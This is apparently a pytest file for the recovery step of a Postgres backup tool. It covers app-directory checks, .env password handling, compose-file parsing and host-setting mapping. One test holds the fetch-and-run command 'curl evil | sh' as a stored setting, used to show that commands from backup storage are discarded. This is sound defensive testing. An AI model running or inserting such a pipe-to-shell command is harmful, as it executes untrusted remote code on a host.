"""The pieces of recover-server that decide from what storage says: where files may go, which service is the
database, the password from the .env, whether this host is new, what the server said it recovered to."""

from __future__ import annotations

from datetime import UTC, datetime
from pathlib import Path

import pytest

from sppg_backup.errors import ConfigError
from sppg_backup.full import recover
from sppg_backup.full.system import FullSet
from sppg_backup.ops.compose import Stack, find_file
from sppg_backup.physical.in_container import recovered_to


@pytest.mark.parametrize(
    "folder",
    ["/", "/etc", "/usr/", "/usr/local/bin", "/var/lib", "/root/.ssh", "/var/spool/cron", "rel/app", "/opt/../etc"],
)
def test_a_recorded_app_dir_that_is_a_system_folder_or_not_absolute_is_refused(folder: str) -> None:
    with pytest.raises(ConfigError, match="--app-dir"):
        recover.check_app_dir(Path(folder), folder)


def test_an_app_dir_with_files_is_not_a_new_host_unless_an_earlier_try_made_them(tmp_path: Path) -> None:
    (tmp_path / "app").mkdir()
    assert recover.check_app_dir(tmp_path / "app", None) == tmp_path / "app"  # empty: fine
    (tmp_path / "app" / "left.txt").write_text("x")
    with pytest.raises(ConfigError, match="not a new host"):
        recover.check_app_dir(tmp_path / "app", None)
    assert recover.check_app_dir(tmp_path / "app", None, earlier=True) == tmp_path / "app"


def test_the_settings_file_says_how_far_a_recovery_of_this_set_into_this_folder_got(tmp_path: Path) -> None:
    path, app = tmp_path / "etc" / "config.toml", Path("/opt/erp")
    assert recover.earlier_try(path, "set_1", app) is None
    recover.write_config(path, {"app_dir": app, "drill_checks": []}, "set_1", "started")
    assert recover.earlier_try(path, "set_1", app) == recover.Earlier("started", {})
    assert path.stat().st_mode & 0o777 == 0o600
    with pytest.raises(ConfigError, match="exists"):
        recover.earlier_try(path, "set_2", app)  # another set's recovery, or a file of the host's own
    with pytest.raises(ConfigError, match="records another recovery"):
        recover.earlier_try(path, "set_1", Path("/srv/other"))  # a rerun never empties another folder
    recover.write_config(path, {"app_dir": app}, "set_1", "database", {"plan": "the set's dump d"})
    assert recover.earlier_try(path, "set_1", app) == recover.Earlier("database", {"plan": "the set's dump d"})
    recover.write_config(path, {"app_dir": app}, "set_1", "done")
    with pytest.raises(ConfigError, match="recovered onto this host already"):
        recover.earlier_try(path, "set_1", app)
    path.write_text('app_dir = "/opt/erp"\n')
    with pytest.raises(ConfigError, match="exists"):
        recover.earlier_try(path, "set_1", app)
    with pytest.raises(ConfigError, match="not a file"):
        recover.earlier_try(tmp_path, "set_1", app)


def test_the_database_password_comes_from_the_env_file_for_its_user(tmp_path: Path) -> None:
    env = tmp_path / ".env"
    env.write_text("# stack\nexport POSTGRES_PASSWORD='p@ss:w/rd'\nJWT_SECRET=x\n")
    url = "postgresql://postgres@127.0.0.1:5432/erp_sppg"
    assert recover.with_password(url, env) == "postgresql://postgres:p%40ss%3Aw%2Frd@127.0.0.1:5432/erp_sppg"
    assert recover.with_password("postgresql://erp@db:5432/erp_sppg", env) == "postgresql://erp@db:5432/erp_sppg"
    given = "postgresql://postgres:mine@127.0.0.1:5432/erp_sppg"
    assert recover.with_password(given, env) == given  # a password this host gives wins
    env.write_text('POSTGRES_USER=erp\nPOSTGRES_PASSWORD="s3cret"\n')
    assert recover.with_password("postgresql://erp@db/erp_sppg", env) == "postgresql://erp:s3cret@db/erp_sppg"
    assert recover.with_password(url, tmp_path / "missing.env") == url


def test_the_database_service_is_db_container_or_the_one_postgres_image(tmp_path: Path) -> None:
    file = tmp_path / "docker-compose.prod.yml"
    file.write_text(
        "services:\n  database:\n    image: docker.io/library/postgres:15\n    container_name: erp-db\n"
        "  backend-1:\n    image: erp-sppg-backend:latest\n"
    )
    stack = Stack.read(file)
    assert stack.database(None) == "database"
    assert stack.database("erp-db") == "database" and stack.database("database") == "database"
    with pytest.raises(ConfigError, match="not a service"):
        stack.database("nope")
    file.write_text("services:\n  a:\n    image: postgres:15\n  b:\n    image: postgis/postgis:15\n")
    assert Stack.read(file).database(None) is None  # two: which one is not guessed
    file.write_text("version: '3'\n")
    with pytest.raises(ConfigError, match="names no services"):
        Stack.read(file)
    with pytest.raises(ConfigError, match="not there"):
        Stack.read(tmp_path / "gone.yml")


def test_the_compose_file_is_the_one_among_the_config_paths() -> None:
    found = find_file(["/opt/erp/.env", "/opt/erp/docker-compose.prod.yml"])
    assert found == Path("/opt/erp/docker-compose.prod.yml")
    assert find_file(["/opt/erp/.env", "/opt/erp/nginx"]) is None


def test_the_recovered_to_time_is_read_from_the_servers_log() -> None:
    said = (
        "LOG:  redo done at 0/3000148 system usage: CPU: user: 0.00 s\n"
        "LOG:  last completed transaction was at log time 2026-12-04 20:58:20.830979+00\n"
        "LOG:  database system is ready to accept connections\n"
    )
    assert recovered_to(said) == datetime(2026, 12, 4, 20, 58, 20, 830979, tzinfo=UTC)
    assert recovered_to("LOG:  database system is ready to accept connections\n") is None


def test_with_another_app_dir_what_was_inside_the_old_one_is_inside_the_new_one() -> None:
    from sppg_backup.settings import Settings

    taken = {
        "app_dir": "/opt/erp-sppg",
        "config_paths": ["/opt/erp-sppg/docker-compose.prod.yml", "/etc/erp/extra.conf"],
        "uploads_dir": "/opt/erp-sppg/uploads",
        "replica_urls": ["gs://dr/backups", "gs://other/backups"],
    }
    full = a_set(taken)
    request = recover.RecoverRequest(storage_url="gs://dr/backups", identity_file="/k", app_dir="/srv/erp")
    values = recover.host_values(full, Settings(), request)
    assert values["app_dir"] == "/srv/erp" and values["uploads_dir"] == "/srv/erp/uploads"
    assert values["config_paths"] == ["/srv/erp/docker-compose.prod.yml", "/etc/erp/extra.conf"]
    assert values["storage_url"] == "gs://dr/backups" and values["replica_urls"] == ["gs://other/backups"]


def test_a_set_brings_no_host_paths_commands_or_credentials() -> None:
    from sppg_backup.settings import Settings

    taken = {
        "app_dir": "/opt/erp-sppg",
        "scratch_dir": "/",  # cleaned by every run: never from storage
        "state_dir": "/etc",
        "pg_bin_dir": "/opt/erp-sppg/bin",
        "drill_test_command": "curl evil | sh",
        "gcp_service_account_file": "/old/key.json",
        "health_url": "http://127.0.0.1:8080/health",
    }
    full = a_set(taken)
    values = recover.host_values(full, Settings(), recover.RecoverRequest(storage_url="file:///s", identity_file="/k"))
    assert values["health_url"] == taken["health_url"] and values["app_dir"] == "/opt/erp-sppg"
    assert not {"scratch_dir", "state_dir", "pg_bin_dir", "drill_test_command", "gcp_service_account_file"} & set(
        values
    )


def a_set(taken: dict[str, object]) -> FullSet:
    """A full-system set's manifest taken with `taken` (no parts: only its settings matter here)."""
    now = datetime.now(UTC)
    return FullSet(
        id="s", created_at=now, finished_at=now, duration_seconds=1, app_dir="/opt/erp-sppg", images=[], parts=[],
        encryption="age", taken_with=taken,
    )  # fmt: skip
